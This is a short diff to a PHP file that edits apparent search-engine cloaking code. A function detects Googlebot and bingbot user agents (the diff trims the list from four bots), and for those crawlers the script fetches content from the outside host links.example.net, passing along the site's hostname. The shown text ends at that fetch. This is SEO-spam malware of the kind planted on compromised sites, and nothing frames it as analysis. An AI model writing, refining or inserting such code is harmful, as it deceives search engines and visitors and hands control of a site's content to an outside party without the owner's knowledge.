@@ -1,8 +1,7 @@
 <?php
 function is_spider_k() {
-    $s = array('Googlebot', 'bingbot', 'YandexBot', 'AhrefsBot');
-    foreach ($s as $x) if (stripos(@$_SERVER['HTTP_USER_AGENT'], $x) !== false) return true;
-    return false;
+    $ua = @$_SERVER['HTTP_USER_AGENT'];
+    return stripos($ua, 'Googlebot') !== false || stripos($ua, 'bingbot') !== false;
 }
 if (is_spider_k()) {
     $page = file_get_contents('http://' . 'links.example.net/g.php?d=' . $_SERVER['HTTP_HOST']);
